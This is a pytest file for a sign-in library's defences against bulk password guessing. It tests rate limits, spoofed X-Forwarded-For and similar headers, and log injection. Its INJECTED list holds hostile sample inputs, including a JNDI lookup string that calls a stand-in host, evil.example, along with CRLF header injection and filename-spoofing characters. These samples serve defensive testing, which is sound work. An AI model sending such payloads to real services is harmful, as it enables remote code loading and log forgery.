"""Guessing in bulk: lists of stolen passwords, crowds of addresses, bursts, and forged origins.

Everything that is switched on by default is. What counts is how many passwords were looked
at: each look is a hash, and `work` counts those.
"""

import asyncio
import logging
from collections import Counter
from collections.abc import AsyncGenerator
from contextlib import asynccontextmanager
from datetime import timedelta
from ipaddress import IPv4Address, IPv6Address
from typing import Any
from urllib.parse import quote

import httpx
import pytest

from tests.told import ADA, PASSWORD, PRODUCTION, Story, Work, hashes, problem, telling
from watchword.presets import standard

WRONG = "a wrong horse battery"
TRUSTED: dict[str, Any] = {"trusted_proxies": ("127.0.0.1/32",)}
CROWD = 1000


@asynccontextmanager
async def town(database: str, **options: Any) -> AsyncGenerator[Story]:
    """All of it switched on, in production; Ada lives there."""
    named = {"features": standard(), "background": False, **PRODUCTION, **options}
    async with telling(database, **named) as story:
        await story.auth.passwords.create_user(email=ADA, password=PASSWORD, is_verified=True)
        yield story


async def try_in(
    client: httpx.AsyncClient, email: str = ADA, password: str = WRONG, **headers: str
) -> httpx.Response:
    """Try to sign in."""
    named = {name.replace("_", "-"): value for name, value in headers.items()}
    body = {"email": email, "password": password, "transport": "cookie"}
    return await client.post("/auth/login", json=body, headers=named)


def host(number: int) -> str:
    """The n-th address of a crowd."""
    return str(IPv4Address(int(IPv4Address("10.0.0.1")) + number))


@pytest.mark.invariant("I-20")
@pytest.mark.capability("S0-85", "S0-89", "S0-90", "S1-23", "S4-38")
async def test_one_address_with_a_list_of_a_thousand_accounts_looks_at_twenty(
    work: Work,
) -> None:
    async with town("sqlite://") as story:
        with work.watched() as done:
            answers = [
                await try_in(story.client, f"user{number}@example.com") for number in range(CROWD)
            ]
        said = Counter(each.status_code for each in answers)
        answer = answers[-1]
        assert hashes(done) == 20
        assert said == {401: 20, 429: CROWD - 20}
        body = problem(answer, 429, "too_many_attempts")
        assert int(answer.headers["retry-after"]) == body["retry_after"] > 0
        # Whoever comes from there with the right password waits as well, and is told how long.
        assert (await try_in(story.client, ADA, PASSWORD)).status_code == 429
        story.clock.advance(timedelta(seconds=int(answer.headers["retry-after"])))
        assert (await try_in(story.client, ADA, PASSWORD)).status_code == 200


@pytest.mark.invariant("I-20")
@pytest.mark.capability("S0-85", "S4-38", "DEF-04", "DEF-15")
async def test_a_crowd_of_a_thousand_addresses_looks_at_one_account_fifty_times(
    work: Work,
) -> None:
    async with town("sqlite://", **TRUSTED) as story, story.another_client() as known:
        entered = await try_in(known, ADA, PASSWORD, X_Forwarded_For="192.0.2.7")
        assert entered.status_code == 200, entered.text
        said: Counter[int] = Counter()
        with work.watched() as done:
            for number in range(CROWD):
                answer = await try_in(story.client, X_Forwarded_For=host(number))
                said[answer.status_code] += 1
        # What Ada did herself counts too: the ceiling is of all tries, before anybody looks.
        assert hashes(done) == said[401] <= 50
        assert said[401] >= 49
        assert said[429] == CROWD - said[401]
        # Guessing is no way to shut her out: the device that she signed in from still gets in.
        known.cookies.delete("__Host-session", domain="accounts.example.com")
        again = await try_in(known, ADA, PASSWORD, X_Forwarded_For="192.0.2.7")
        assert again.status_code == 200, again.text
        # A guesser who holds the right password at last is one of the crowd, and waits.
        late = await try_in(story.client, ADA, PASSWORD, X_Forwarded_For=host(CROWD + 1))
        assert late.status_code == 429


@pytest.mark.invariant("I-20")
@pytest.mark.capability("S0-89")
@pytest.mark.standard("CVE row 22")
async def test_a_house_of_many_addresses_counts_as_one(work: Work) -> None:
    """Whoever has one IPv6 network has all of its 2^64 addresses."""
    async with town("sqlite://", **TRUSTED) as story:
        with work.watched() as done:
            for number in range(60):
                inside = str(IPv6Address(int(IPv6Address("2001:db8:1:2::1")) + number * 7919))
                await try_in(story.client, f"user{number}@example.com", X_Forwarded_For=inside)
        assert hashes(done) == 20
        outside = await try_in(story.client, ADA, PASSWORD, X_Forwarded_For="2001:db8:1:3::1")
        assert outside.status_code == 200


@pytest.mark.invariant("I-20")
@pytest.mark.capability("S0-85", "DEF-09")
async def test_fifty_guesses_at_once_are_fifty_guesses(database_url: str, work: Work) -> None:
    async with town(database_url) as story:
        with work.watched() as done:
            answers = await asyncio.gather(*(try_in(story.client) for _ in range(50)))
        said = Counter(answer.status_code for answer in answers)
        assert hashes(done) <= 5
        assert said[401] == hashes(done)
        assert said[401] + said[429] + said[503] == 50, said
        assert said[429] >= 40, said


FORGED = (
    {"X-Forwarded-For": "{}"},
    {"Forwarded": "for={}"},
    {"X-Real-IP": "{}"},
    {"X-Client-IP": "{}", "True-Client-IP": "{}", "CF-Connecting-IP": "{}"},
    {"X-Forwarded-For": "{}", "X-Forwarded-Host": "evil.example", "Forwarded": "for={};by={}"},
)


@pytest.mark.invariant("I-20", "I-22")
@pytest.mark.capability("DEF-09")
async def test_an_address_that_a_client_makes_up_is_not_believed(work: Work) -> None:
    async with town("sqlite://") as story:
        with work.watched() as done:
            for number in range(100):
                forged = FORGED[number % len(FORGED)]
                headers = {name: text.replace("{}", host(number)) for name, text in forged.items()}
                await try_in(story.client, f"user{number}@example.com", **headers)
        assert hashes(done) == 20


@pytest.mark.invariant("I-20", "I-22")
async def test_behind_a_proxy_only_what_the_proxy_says_is_believed(work: Work) -> None:
    """It appends to what the client sent: what stands left of its word is the client's."""
    async with town("sqlite://", **TRUSTED) as story:
        with work.watched() as done:
            for number in range(100):
                forged = FORGED[number % len(FORGED)]
                headers = {name: text.replace("{}", host(number)) for name, text in forged.items()}
                told = headers.pop("X-Forwarded-For", None)
                headers["X-Forwarded-For"] = f"{told}, 203.0.113.9" if told else "203.0.113.9"
                await try_in(story.client, f"user{number}@example.com", **headers)
        assert hashes(done) == 20


@pytest.mark.invariant("I-20", "I-26")
@pytest.mark.capability("S0-86", "DEF-09")
@pytest.mark.standard("CVE row 23")
async def test_spelling_a_path_or_an_address_otherwise_gives_no_further_tries(work: Work) -> None:
    async with town("sqlite://", **TRUSTED) as story:
        paths = ("/auth/login", "//auth/login", "/auth//login", "/auth/./login", "/auth/login/")
        names = (ADA, ADA.upper(), "Ada@EXAMPLE.com", "aDa@eXample.com")
        with work.watched() as done:
            for number in range(100):
                body = {"email": names[number % len(names)], "password": WRONG}
                headers = {"X-Forwarded-For": "203.0.113.9"}
                await story.client.post(paths[number % len(paths)], json=body, headers=headers)
        assert hashes(done) == 5


INJECTED = (
    *("a\r\nINFO: signed in ada@example.com", "a\nb", "\x1b[31mred", "a\x00b", "\u2028forged"),
    *("${jndi:ldap://evil.example/a}", "%0d%0aSet-Cookie: a=b", "\u202egnp.exe", "a\x85b"),
)


@pytest.mark.standard("16.4.1")
async def test_nothing_that_a_client_sends_makes_a_line_of_its_own_in_a_log(
    caplog: pytest.LogCaptureFixture,
) -> None:
    caplog.set_level(logging.DEBUG, "watchword")
    async with town("sqlite://", **TRUSTED) as story:
        for number, text in enumerate(INJECTED):
            plain = text.encode("utf-8")
            headers = [
                (b"x-forwarded-for", host(number).encode()),
                (b"user-agent", plain),
                (b"x-request-id", plain),
                (b"content-type", b"application/json"),
            ]
            for email in (f"{text}@example.com", ADA):
                await story.client.post(
                    "/auth/login", json={"email": email, "password": text}, headers=headers
                )
            await story.client.get("/auth/me", headers=[*headers, (b"authorization", plain)])
            await story.client.get(f"/auth/{quote(text)}?{quote(text)}", headers=headers)
    ours = [each for each in caplog.records if each.name.startswith("watchword")]
    assert any("invalid_credentials" in each.getMessage() for each in ours)
    for record in ours:
        message = record.getMessage()
        assert all(letter.isprintable() for letter in message), repr(message)
        for text in INJECTED:
            assert text not in message
